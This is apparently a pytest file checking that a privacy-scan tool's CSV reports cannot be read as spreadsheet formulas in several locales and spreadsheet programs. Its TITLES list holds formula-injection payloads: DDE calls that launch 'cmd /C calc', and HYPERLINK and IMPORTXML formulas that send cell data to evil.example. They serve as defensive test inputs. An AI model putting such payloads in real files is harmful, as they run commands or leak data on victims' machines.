"""A spreadsheet that opens the report finds text, never a formula."""

import csv
import io
import re
import shutil
import subprocess
from datetime import date
from functools import partial
from xml.etree import ElementTree

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from identity_scan import reports
from identity_scan.reports.csv import cell
from identity_scan.speech import language

content = partial(reports.content, "csv")
DAY = date(2026, 11, 22)
FORMULA = tuple("=+-@＝＋－＠\t\r\n")
DIVIDERS = {"en-CA": ",", "fr-CA": ";"}
TITLES = (
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000＝1+1",
    "\t=1+1",
    "\r\n=1+1",
    "a\n=1+1",
    "a\r=1+1",
    '"=1+1"',
    "'=1+1",
    '"""=1+1',
    "a;=1+1",
    "a,=1+1",
    'a";=1+1;"',
    'a",=1+1,"',
    "a\t=1+1",
    "a|=1+1",
    "\x00=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
)
"""What a page may call itself so that a spreadsheet runs it, first of all by Windows' DDE."""


def rows(assessment, redact=False):
    text = content(assessment, DAY, (), redact).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture(params=DIVIDERS)
def tongue(request):
    """Each language with the sign that divides cells there."""
    language.use(request.param)
    return DIVIDERS[request.param]


def test_it_is_one_table_with_a_row_a_result_and_columns_of_one_type(assessment):
    made = rows(assessment)
    assert {len(row) for row in made} == {len(made[0])}
    assert [row[0] for row in made[1:]] == ["1", "2", "3", "4"]
    first = dict(zip(made[0], made[1], strict=True))
    text = content(assessment, DAY, (), False).decode("utf-8-sig")
    typed = list(csv.DictReader(io.StringIO(text), quoting=csv.QUOTE_NONNUMERIC))
    for column in ("number", "score", "minutes"):
        assert all(isinstance(row[column], float) for row in typed), column
    assert [row["date"] for row in typed] == ["2025-03-01", "", "", ""]
    assert {row["about you"] for row in typed} == {"yes", "not settled"}
    assert first["title"] == "Ottoline Varga, 47, Guelph | WhereFolk"
    assert first["what it gives away"].startswith("It is the address you gave (9 Millrace Lane).")
    assert (first["score"], first["action"], first["where it stands"]) == ("84", "CONS-01", "to do")
    assert "florist" not in str(made)


def test_the_notes_stand_in_a_file_of_their_own(assessment, tmp_path):
    table, beside = reports.write(assessment, ["csv"], tmp_path, False, DAY)
    assert (table.name, beside.name) == ("identity-scan-2026-11-22.csv", "identity-scan-2026-11-22-notes.csv")
    made = list(csv.reader(io.StringIO(beside.read_text("utf-8-sig"))))
    assert made[0] == ["part", "what it says"]
    notes = [note for _note, note in made]
    assert "Mojeek: answered 0 of 1. Mojeek could not be reached." in notes
    assert notes[-1].endswith("Made by the worker for reflection. Not a measure of competence or conduct.")
    assert "florist" not in str(made)


@pytest.mark.parametrize("title", TITLES)
@pytest.mark.parametrize("redact", [False, True], ids=["own copy", "redacted"])
def test_a_spreadsheet_library_takes_no_cell_for_a_formula(poisoned, tongue, title, redact, tmp_path):
    """Each cell is entered as it would be typed, whatever divides the cells of that country; then the book is read."""
    text = content(poisoned(title), DAY, (), redact).decode("utf-8-sig")
    text += "" if redact else reports.content("notes", poisoned(title), DAY, (), False).decode("utf-8-sig")
    for divider in (tongue, ",", ";", "\t"):
        book = openpyxl.Workbook()
        for line in csv.reader(io.StringIO(text), delimiter=divider):
            book.active.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", value) for value in line])
        book.save(tmp_path / "book.xlsx")
        sheet = openpyxl.load_workbook(tmp_path / "book.xlsx").active
        cells = [one for line in sheet.iter_rows() for one in line if one.value is not None]
        assert len(cells) > 20
        assert not [one for one in cells if one.data_type == "f"]
        # The library knows only "=" for the beginning of a formula; spreadsheets know more.
        assert not [one.value for one in cells if str(one.value).lstrip(" \u00a0\u3000").startswith(FORMULA)]


def test_the_test_above_can_fail(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "'=1+1"])
    book.save(tmp_path / "book.xlsx")
    (line,) = openpyxl.load_workbook(tmp_path / "book.xlsx").active.iter_rows()
    assert [one.data_type for one in line] == ["f", "s"]


SPREADSHEET = shutil.which("ssconvert")


@pytest.mark.skipif(not SPREADSHEET, reason="no gnumeric here to open the report in")
def test_a_spreadsheet_opens_it_without_a_formula(poisoned, tongue, tmp_path):
    report, opened = tmp_path / "report.csv", tmp_path / "opened.xml"
    for title in ('"=1+1" is no report', *TITLES):
        bare = title.endswith("is no report")
        report.write_bytes(b"=1+1\r\n" if bare else content(poisoned(title), DAY, (), False))
        convert = [SPREADSHEET, "--export-type=Gnumeric_XmlIO:sax:0", str(report), str(opened)]
        subprocess.run(convert, check=True, capture_output=True, timeout=60)
        cells = [found for found in ElementTree.parse(opened).iter() if found.tag.endswith("}Cell")]
        formulas = [found.text for found in cells if "ValueType" not in found.attrib]
        assert formulas == (["=1+1"] if bare else []), title
        assert bare or len(cells) > 20


def test_cells_are_divided_as_the_spreadsheets_of_the_language_do(assessment, tongue):
    text = content(assessment, DAY, (), False).decode("utf-8-sig")
    first, second = list(csv.reader(io.StringIO(text), delimiter=tongue))[:2]
    assert len(first) == len(second) == 23
    assert "Ottoline Varga, 47, Guelph | WhereFolk" in second


@given(st.text(alphabet=st.sampled_from("=+-@＝;,|'\" \t\r\nab1"), max_size=12))
def test_no_text_whatever_becomes_a_formula(text):
    made = cell(text)
    assert not made.startswith(FORMULA)
    for divider in ";,|":
        assert not [piece for piece in made.split(divider) if piece.strip(' "').startswith(FORMULA)]


def test_harmless_text_stays_as_it_is():
    for text in ("Our team – Speed River General", "10-km race", "a + b", 'O\'Neil; "quoted"', "me@work.example"):
        assert cell(text) == text


def test_redacted_rows_hold_no_finding_but_the_counts_by_life(assessment):
    made = rows(assessment, redact=True)
    assert made[0] == ["part", "what it says"]
    assert {len(row) for row in made} == {2}
    counted = [said for part, said in made if part == "Which life the results show"]
    assert counted == ["professional: 1", "mixed: 1", "personal: 1", "unclear: 1", "somebody else: 1"]
    told = str(made)
    assert not re.search(r"[A-Z]{2,4}-\d\d", told), "no step that was not ticked"
    assert "act now" not in told
    assert "To be fixed" not in told
